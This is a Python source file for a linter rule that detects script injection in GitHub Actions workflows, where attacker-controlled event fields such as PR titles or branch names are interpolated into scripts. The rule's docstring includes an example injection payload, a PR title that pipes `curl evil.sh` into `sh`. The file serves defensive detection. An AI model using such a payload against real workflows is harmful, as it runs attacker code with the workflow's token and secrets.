"""## What it does
Flags attacker-controlled `${{ github.event.* }}` text interpolated into scripts.

In detail, it flags `${{ ... }}` expressions that put attacker-controlled event data into a `run:`
script or an `actions/github-script` `script:`. Attacker-controlled means text anyone who
opens an issue or pull request, comments, or pushes a branch can choose: issue, pull
request and discussion titles and bodies, comment and review bodies, branch names
(`github.head_ref`, `pull_request.head.ref`, `head.label`, `workflow_run.head_branch`),
commit messages and author names and emails, and wiki page names.

## Why is this bad?
Actions substitutes the expression into the script text before the shell runs it, so a
pull request titled `a"; curl evil.sh | sh; echo "` runs the attacker's commands in your
workflow, with its token and secrets. Quoting does not help: the attacker closes the
quote. Passing the value through an environment variable makes it data, not code.

## Example
```yaml
- run: echo "Title: ${{ github.event.pull_request.title }}"
```

## Use instead
```yaml
- env:
    TITLE: ${{ github.event.pull_request.title }}
  run: echo "Title: $TITLE"
```
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from app.checks.base import WORKFLOW, FileCheck, FileContext, rule
from app.checks.ci.workflow import action_name, jobs, root
from app.checks.infrastructure.yaml_tree import YMap
from app.engine.model import Domain, RawFinding, Severity

RULE = rule("CI006", "script-injection", Domain.CI, Severity.HIGH, __doc__)

_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
_ANY = r"(?:\[[^\]]*\]|\.\*)?"  # `commits[0]`, `commits.*`
_UNTRUSTED = re.compile(
    r"github\.head_ref\b"
    r"|github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)\b"
    r"|github\.event\.(?:comment|review|review_comment)\.body\b"
    r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)\b"
    rf"|github\.event\.pages{_ANY}\.page_name\b"
    rf"|github\.event\.commits{_ANY}\.(?:message|author\.(?:email|name)|committer\.(?:email|name))\b"
    r"|github\.event\.head_commit\.(?:message|author\.(?:email|name)|committer\.(?:email|name))\b"
    r"|github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)))\b"
    rf"|github\.event\.workflow_run\.pull_requests{_ANY}\.head\.ref\b",
    re.IGNORECASE,
)


def untrusted_fields(script: str) -> list[str]:
    """Return the attacker-controlled fields a script interpolates, in order of appearance."""
    found: list[str] = []
    for expression in _EXPRESSION.finditer(script):
        found.extend(m.group(0) for m in _UNTRUSTED.finditer(expression.group(1)))
    return found


def _scripts(step: YMap) -> Iterator[tuple[str, int]]:
    """Yield the script texts of a step with the line of their key."""
    run = step.get_str("run")
    if run is not None:
        yield run, step.line_of("run")
    inputs = step.get_map("with")
    script = inputs.get_str("script") if inputs is not None else None
    if inputs is not None and script is not None and action_name(step.get_str("uses") or "") == "actions/github-script":
        yield script, inputs.line_of("script")


def _line_of(ctx: FileContext, field: str, start: int, script: str) -> int:
    """Return the line, at or after the script's key, where a field first appears."""
    needle = field.lower()
    for line in range(start, start + script.count("\n") + 2):
        if needle in ctx.line_text(line).lower():
            return line
    return start


def find(ctx: FileContext) -> Iterator[RawFinding]:
    """Report attacker-controlled expressions interpolated into scripts."""
    workflow = root(ctx)
    for job in jobs(workflow) if workflow is not None else []:
        for step in job.steps():
            for script, key_line in _scripts(step):
                reported: set[int] = set()
                for field in untrusted_fields(script):
                    line = _line_of(ctx, field, key_line, script)
                    if line not in reported:
                        reported.add(line)
                        yield RawFinding(RULE.code, line, f"`{field}` is interpolated into a script: "
                                         "pass it through an environment variable instead")


CHECK = FileCheck(RULE, WORKFLOW, find)
